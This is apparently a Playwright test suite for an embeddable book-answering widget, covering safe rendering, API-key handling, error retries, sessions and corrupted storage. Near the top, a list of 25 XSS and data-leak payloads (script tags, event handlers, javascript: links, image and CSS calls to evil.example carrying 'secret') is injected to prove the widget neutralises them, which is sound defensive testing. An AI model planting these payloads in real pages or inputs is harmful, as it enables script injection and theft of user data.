"""The widget told lies: text that wants to run, services that fail, storage that somebody spoilt."""

from __future__ import annotations

import asyncio
import json
from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Page, expect

from octavo.library import Library
from octavo.records.keys import Keyring
from octavo.settings import Settings
from octavo.testing import TinyEmbedder
from tests.support.browser import BrowserThread
from tests.support.widget_site import (
    STORM_TEXT,
    CannedResponse,
    HeardRequest,
    Site,
    ask_widget,
    fill_library,
    find_inside,
    make_page,
    make_script_tag,
    open_reader,
    open_widget,
    serve_library,
    serve_site,
)

RUN = "window.pwned=1"
FAR = "https://evil.example"
PAYLOADS = (
    f"<script>{RUN}</script>",
    f"<img src=x onerror={RUN}>",
    f"<img src='{FAR}/leak.png'>",
    f"<svg onload={RUN}><circle/></svg>",
    f"<svg><script>{RUN}</script></svg>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<iframe src='javascript:parent.{RUN}'></iframe>",
    f"<a href='javascript:{RUN}'>here</a>",
    f"<body onload={RUN}>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<input autofocus onfocus={RUN}>",
    f"<video src=x onerror={RUN}></video>",
    f"<object data='javascript:{RUN}'></object>",
    f"<link rel=stylesheet href='{FAR}/a.css'>",
    f"<style>@import '{FAR}/b.css'; *{{background:url({FAR}/c)}}</style>",
    f"<meta http-equiv=refresh content='0;url={FAR}'>",
    f"<base href='{FAR}/'>",
    f"<form action='{FAR}'><button autofocus>Go on</button></form>",
    f"![alt]({FAR}/pixel.png?q=secret)",
    f"![alt][1]\n\n[1]: {FAR}/pixel.png",
    f"[here](javascript:{RUN})",
    f"[here]({FAR}/?q=secret)",
    f"[click](data:text/html,<script>{RUN}</script>)",
    f"`</code><img src=x onerror={RUN}>`",
    f"</textarea></div></template><math><mtext><img src=x onerror={RUN}></mtext></math>",
)


@pytest.fixture(scope="module")
def site() -> Iterator[Site]:
    with serve_site() as made:
        yield made


@pytest.fixture
def page(stage: BrowserThread, site: Site) -> Iterator[Page]:
    """A reader of a page whose service is the site itself."""
    for path in [path for path in site.pages if path.startswith("/v1/")]:
        del site.pages[path]
    site.heard.clear()
    site.put("/storm.html", make_page(STORM_TEXT, make_script_tag(site.url, key="octv_public_secret")))
    site.pages["/v1/sessions"] = CannedResponse(
        '{"session_id": "session-of-a-test"}', "application/json", status=201
    )
    with open_reader(stage, site) as open_widget:
        yield open_widget
        assert all("secret" not in heard.path for heard in site.heard)


def citation(number: int = 1, **given: object) -> dict[str, object]:
    return {
        "number": number, "content_snippet": "Two boats came from Skerry.", "section": "The count",
        "page": None, "section_id": f"s{number}", "url": "book://tides/s1", "title": "Tides",
        "link": "book://tides/s1#char=0,9", **given,
    }  # fmt: skip


def final(answer: str = "Two boats. [1]", **given: object) -> dict[str, object]:
    return {
        "question_id": "q1", "answer_id": "a1", "status": "completed", "answer": answer, "confidence": 0.95,
        "citations": [citation()], "evidence": [], "refusal": None, "processing_time_ms": 3, **given,
    }  # fmt: skip


def test_no_payload_runs_or_reaches_out_wherever_it_stands(site: Site, page: Page) -> None:
    """In a question, a step, a claim, an answer, a quotation, a place, a link, a dropped claim, a refusal."""
    everything = "\n\n".join(PAYLOADS)
    assert len(PAYLOADS) == 25
    links = [f"javascript:{RUN}//", f"data:text/html,<script>{RUN}</script>", "https://ok.example/#a"]
    links.append("//evil.example/x")
    citations = [
        citation(n, content_snippet=everything, section=everything, page=PAYLOADS[n], link=link, url=link)
        for n, link in enumerate(links, start=1)
    ]
    dropped = [{"text": text, "reason": text} for text in PAYLOADS]
    site.play(
        ("asked", {"interpreted": everything}),
        ("scoped", {"description": everything}),
        *[("working", {"step": text, "detail": text}) for text in PAYLOADS],
        *[("claimed", {"text": text, "citations": [1], "marks": [[0, 5]]}) for text in PAYLOADS],
        (
            "answered",
            final(f"{everything} [1][2][3][4]", citations=citations, dropped=dropped, interpreted=everything),
        ),
    )
    open_widget(page, site.url + "/storm.html")
    turn = ask_widget(page, everything[:900])
    shown = turn.locator(".said").inner_text()
    for text in PAYLOADS[:18]:
        assert text.replace("`", "") in shown, "the letters are shown as letters"
    turn.locator(".cite").first.hover()
    expect(find_inside(page, ".tip")).to_contain_text("<script>")
    turn.locator(".cite").first.click()
    turn.locator(".passages button").nth(1).click()
    turn.locator("summary").press("Enter")
    nearest = [
        {**citation(n), "section": text, "excerpt": text, "url": links[0]} for n, text in enumerate(PAYLOADS)
    ]
    refusal = {"reason": "unheard_of", "message": everything, "nearest": nearest}
    site.play(("answered", final("no", citations=[], refusal=refusal)))
    ask_widget(page, "and now?").locator(".nearest button").first.click()
    site.pages["/v1/ask"] = CannedResponse(
        json.dumps({"detail": everything, "code": PAYLOADS[0]}), "application/json", status=500
    )
    ask_widget(page, "and then?")
    page.reload()
    expect(find_inside(page, ".turn").first).to_be_visible()
    hrefs = find_inside(page, "a").evaluate_all("(all) => all.map((a) => [a.getAttribute('href'), a.rel])")
    assert {tuple(pair) for pair in hrefs} == {("https://ok.example/#a", "noopener noreferrer")}
    forbidden = "img, iframe, object, embed, video, link, style, script, meta, base, [style*=url], math"
    assert find_inside(page, f":is({forbidden})").count() == 0
    assert page.evaluate("window.pwned") is None


@pytest.fixture
def wall(tmp_path: Path, site: Site) -> Iterator[str]:
    """A service whose book has the payloads in its own text."""
    lines = [f"Of the boats somebody wrote {text.splitlines()[0]} on the wall." for text in PAYLOADS]
    (tmp_path / "wall.txt").write_text("\n\n".join(lines), encoding="utf-8")

    async def add() -> None:
        async with Library.open(settings=Settings(data=tmp_path / "d"), embedder=TinyEmbedder()) as library:
            await library.add(tmp_path / "wall.txt", title="The Tides")

    asyncio.run(add())
    with serve_library(Settings(data=tmp_path / "d", origins=(site.url,))) as service:
        yield service


def test_a_books_own_payloads_are_quoted_letter_by_letter(
    stage: BrowserThread, site: Site, wall: str
) -> None:
    with open_reader(stage, site, wall) as page:
        open_widget(page, site.put("/wall.html", make_page("<p>A wall.</p>", make_script_tag(wall))))
        turn = ask_widget(page, "What was written of the boats on the wall?")
        assert f"={RUN}>" in turn.locator(".said").inner_text()
        turn.locator(".passages button").first.click()
        expect(turn.locator(".quote")).to_contain_text("Of the boats somebody wrote")
        assert page.evaluate("window.pwned") is None


def test_the_key_is_a_header_and_nothing_else(site: Site, page: Page) -> None:
    site.play(("answered", final()))
    open_widget(page, site.url + "/storm.html")
    ask_widget(page, "How many?")
    (asked,) = site.asked("/v1/ask")
    assert asked.headers["Authorization"] == "Bearer octv_public_secret"
    assert asked.body == {"question": "How many?", "book_id": "the-tides", "session_id": "session-of-a-test"}
    assert "octv_" not in page.evaluate(
        "JSON.stringify({...localStorage}) + JSON.stringify({...sessionStorage})"
    )


@pytest.fixture
def keyed(tmp_path: Path, site: Site) -> Iterator[tuple[str, str]]:
    """A service that asks for keys, and the key of the site."""
    fill_library(tmp_path / "d", tmp_path / "book", base_url=site.url)

    async def key() -> str:
        async with Library.open(settings=Settings(data=tmp_path / "d"), embedder=TinyEmbedder()) as library:
            ring = Keyring(library.database)
            return (await ring.create("site", public=True, origins=[site.url], books=["the-tides"]))[1]

    token = asyncio.run(key())
    with serve_library(Settings(data=tmp_path / "d", keys_required=True)) as service:
        yield service, token


def test_a_public_key_works_on_its_own_site_and_on_no_other(
    stage: BrowserThread, site: Site, keyed: tuple[str, str]
) -> None:
    service, token = keyed
    with serve_site() as other, open_reader(stage, site, service, other.url, refused=True) as page:
        open_widget(page, site.put("/storm.html", make_page(STORM_TEXT, make_script_tag(service, key=token))))
        expect(ask_widget(page, "How many boats were lost?").locator(".said")).to_contain_text("Seven boats")
        page.reload()
        expect(find_inside(page, ".said")).to_contain_text("Seven boats")
        open_widget(
            page, other.put("/storm.html", make_page(STORM_TEXT, make_script_tag(service, key=token)))
        )
        expect(ask_widget(page, "How many boats were lost?").locator(".failed")).to_be_visible()


@pytest.mark.parametrize(
    ("status", "headers", "said"),
    [
        (401, {}, "its key was not accepted"),
        (429, {"Retry_After": "7"}, "Try again in 7 seconds"),
        (502, {}, "the model is out"),
    ],
)
def test_a_failure_is_told_and_can_be_tried_again(
    site: Site, page: Page, status: int, headers: dict[str, str], said: str
) -> None:
    problem = json.dumps({"code": "x", "detail": "the model is out"})
    site.pages["/v1/ask"] = CannedResponse(problem, "application/problem+json", headers, status)
    open_widget(page, site.url + "/storm.html")
    turn = ask_widget(page, "How many?")
    expect(turn.locator(".failed")).to_contain_text(said)
    site.play(("answered", final()))
    turn.locator("button", has_text="Try again").click()
    expect(find_inside(page, ".said")).to_contain_text("Two boats.")
    expect(find_inside(page, ".turn")).to_have_count(1)


def test_a_stream_that_breaks_off_is_no_answer(site: Site, page: Page) -> None:
    site.play(("asked", {"interpreted": "How many?"}), ("claimed", {"text": "Two boats.", "citations": [1]}))
    open_widget(page, site.url + "/storm.html")
    expect(ask_widget(page, "How many?").locator(".failed")).to_be_visible()
    site.play(("error", {"status": 503, "code": "busy", "detail": "come back later"}))
    expect(ask_widget(page, "How many?").locator(".failed")).to_contain_text("come back later")


def test_a_conversation_is_kept_here_when_the_server_keeps_none(site: Site, page: Page) -> None:
    site.pages["/v1/sessions"] = CannedResponse("{}", "application/json", status=404)
    site.play(("answered", final(confidence=0.5)))
    open_widget(page, site.url + "/storm.html")
    ask_widget(page, "How many?")
    assert "session_id" not in site.asked("/v1/ask")[0].body
    page.reload()
    expect(find_inside(page, ".said")).to_contain_text("Two boats.")
    expect(find_inside(page, ".sure")).to_have_text("Not very confident (50% confident)")


def test_a_session_that_the_server_forgot_is_begun_anew(site: Site, page: Page) -> None:
    site.play(("answered", final()))
    open_widget(page, site.url + "/storm.html")
    ask_widget(page, "How many?")

    def forgetful(heard: HeardRequest) -> CannedResponse:
        if heard.body["session_id"] == "session-of-a-test":
            return CannedResponse(
                '{"code": "not_found", "detail": "no such session"}', "application/json", status=404
            )
        return CannedResponse(f"event: answered\ndata: {json.dumps(final())}\n\n", "text/event-stream")

    site.pages["/v1/ask"] = forgetful
    site.pages["/v1/sessions"] = CannedResponse(
        '{"session_id": "another-session"}', "application/json", status=201
    )
    expect(ask_widget(page, "And then?").locator(".said")).to_contain_text("Two boats.")


def test_a_reader_can_judge_copy_and_see_what_was_left_out(site: Site, page: Page) -> None:
    dropped = [
        {"text": "A ninth boat.", "reason": "nothing says so"},
        {"text": "A tenth.", "reason": "nor this"},
    ]
    site.play(("answered", final(dropped=dropped, interpreted="How many boats?")))
    site.pages["/v1/answers/a1/feedback"] = CannedResponse("", status=204)
    open_widget(page, site.url + "/storm.html")
    turn = ask_widget(page, "How many?")
    expect(turn.locator(".understood")).to_have_text("Understood as: How many boats?")
    expect(turn.locator("summary")).to_have_text(
        "2 sentences were left out because the book does not support them"
    )
    turn.locator("summary").click()
    expect(turn.locator(".dropped li").first).to_contain_text("A ninth boat.")
    turn.locator("[aria-label='Copy with sources']").click()
    expect(find_inside(page, "[role=status]").last).to_have_text("Copied")
    assert page.evaluate("navigator.clipboard.readText()") == (
        "Two boats. [1]\n\n[1] “Two boats came from Skerry.” (The count)"
    )
    turn.locator("[aria-label='This did not help']").click()
    turn.locator("label", has_text="Wrong passage").click()
    turn.locator(".why textarea").fill("It was three.")
    turn.locator(".why button").click()
    expect(turn.locator(".why")).to_have_text("Thank you.")
    (voted,) = site.asked("/v1/answers/a1/feedback")
    assert voted.body == {"vote": "down", "reasons": ["passage"], "comment": "It was three."}


def test_a_passage_without_an_address_is_found_here_or_shown_in_the_panel(site: Site, page: Page) -> None:
    elsewhere = citation(2, content_snippet="Nothing of the kind stands here.", section="Elsewhere")
    site.play(("answered", final("Two boats. [1] Nothing. [2]", citations=[citation(), elsewhere])))
    open_widget(page, site.url + "/storm.html")
    turn = ask_widget(page, "How many?")
    turn.locator(".cite").first.click()
    page.wait_for_function("CSS.highlights.get('octavo-quote')")
    assert turn.locator(".quote").count() == 0
    turn.locator(".cite").last.click()
    expect(turn.locator(".quote")).to_have_text("Nothing of the kind stands here.")
    turn.locator(".cite").last.click()
    expect(turn.locator(".quote")).to_have_count(0)


def test_a_copy_of_the_site_elsewhere_shows_its_own_page(site: Site, page: Page) -> None:
    """A preview has the paths of the published site, at another origin."""
    published = "https://guide.example.org/storm#the-count"
    site.play(
        ("answered", final(citations=[citation(url=published, link=f"{published}:~:text=Two%20boats")]))
    )
    open_widget(page, site.url + "/storm.html")
    turn = ask_widget(page, "How many?")
    assert turn.locator(".cite").get_attribute("target") == "_blank"
    turn.locator(".cite").click()
    page.wait_for_function("CSS.highlights.get('octavo-quote')")
    assert len(page.context.pages) == 1


def test_spoilt_storage_breaks_nothing(site: Site, page: Page) -> None:
    site.play(("answered", final()))
    open_widget(page, site.url + "/storm.html")
    page.evaluate(
        '(name) => { localStorage.setItem(name, \'{"session": 7, "turns": [null, 3, {}]}\');'
        "localStorage.setItem('octavo:width', '\"wide\"'); sessionStorage.setItem('octavo:jump', '[1');"
        "sessionStorage.setItem('octavo:open', 'true'); }",
        f"octavo:{site.url}/:the-tides",
    )
    page.reload()
    expect(find_inside(page, ".panel")).to_be_visible()
    expect(ask_widget(page, "How many?").locator(".said")).to_contain_text("Two boats.")
